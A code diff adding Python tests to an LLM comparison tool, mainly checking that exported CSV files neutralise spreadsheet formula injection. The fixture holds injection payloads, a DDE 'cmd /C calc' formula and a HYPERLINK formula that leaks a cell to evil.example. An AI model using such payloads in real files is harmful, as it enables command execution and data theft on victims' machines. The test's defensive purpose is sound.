@@ -397,3 +397,92 @@ def test_a_machine_free_by_the_hour_is_cheaper_at_every_volume(record: Compariso
     assert found.crossover is None
     assert found.cheaper_above == "fake:local"
     assert found.sentence().startswith("fake:api vs fake:local: fake:local costs less at every")
+
+
+# -- issue 22, item 21: no cell of a CSV file is a formula ----------------------------------------
+
+FORMULAS = {
+    "=cmd|' /C calc'!A0": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+sum": "+1+cmd|' /C calc'!A0",
+    "-minus": "-2+3",
+    "@at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "number": "-5",
+}
+
+
+def _formula_record() -> Comparison:
+    from llmcompare.backends.fake import FunctionModel
+    from llmcompare.comparison import compare
+    from llmcompare.prompts import PromptItem
+    from llmcompare.scorers import Contains
+
+    items = [PromptItem(id=i, prompt=i, reference="1") for i in FORMULAS]
+    evil = FunctionModel(lambda r: FORMULAS[r.messages[-1].content], name="evil")
+    plain = FunctionModel(lambda r: "1", name="plain")
+    return compare(
+        {"=evil()": evil, "@plain": plain},
+        items,
+        scorers=[Contains()],
+        progress=False,
+        cache=False,
+    )
+
+
+def _is_number(cell: str) -> bool:
+    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell) is not None
+
+
+# issue 22, item 21
+@pytest.mark.filterwarnings("ignore::llmcompare.cost.UnpricedModelWarning")  # fake models
+def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    from llmcompare.report import write_pairs_csv, write_summary_csv
+
+    record = _formula_record()
+    files = [
+        write_csv(record, tmp_path / "comparison.csv"),
+        write_summary_csv(record, tmp_path / "summary.csv"),
+        write_pairs_csv(record, tmp_path / "pairs.csv"),
+    ]
+    for path in files:
+        with path.open(encoding="utf-8", newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        formulas = [
+            c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)
+        ]
+        assert formulas == [], path.name
+    with files[0].open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    answers = {(r["item_id"], r["model"]): r["text"] for r in rows}
+    # Prefixed with ' as OWASP recommends: a spreadsheet shows the text, runs nothing.
+    for item, answer in FORMULAS.items():
+        shown = answer if item == "number" else "'" + answer
+        assert answers[("'" + item if item[0] in "=+-@" else item, "'=evil()")] == shown
+    assert {r["model"] for r in rows} == {"'=evil()", "'@plain"}
+    # Numbers stay numbers, a negative one too: the paired difference plain - evil.
+    with files[2].open(encoding="utf-8", newline="") as f:
+        (pair,) = list(csv.DictReader(f))
+    assert float(pair["delta"]) == record.differences[0].difference.delta
+    # The frame holds the record's values as they are: it is data, not a file.
+    assert set(record.to_pandas()["text"]) == {*FORMULAS.values(), "1"}
+
+
+# issue 22, item 25
+def test_the_terminal_report_shows_a_sample_of_the_answers_and_where_the_rest_are() -> None:
+    from rich.console import Console
+
+    record = report_data.large(30, models=("llama:a", "chatgpt:b"))
+    console = Console(record=True, width=200)
+    print_report(record, console, full_answers="every answer is in run/comparison.csv")
+    text = console.export_text()
+    shown = set(re.findall(r"item-\d{5}", text))
+    assert shown == {f"item-{i:05d}" for i in range(10)}
+    assert "10 of 30 items shown; every answer is in run/comparison.csv" in text
+    everything = Console(record=True, width=200)
+    print_report(record, everything, items=None)
+    assert len(set(re.findall(r"item-\d{5}", everything.export_text()))) == 30
+    # A small run shows every item, and says nothing about a sample.
+    small = Console(record=True, width=200)
+    print_report(report_data.large(4, models=("llama:a",)), small)
+    assert "items shown" not in small.export_text()
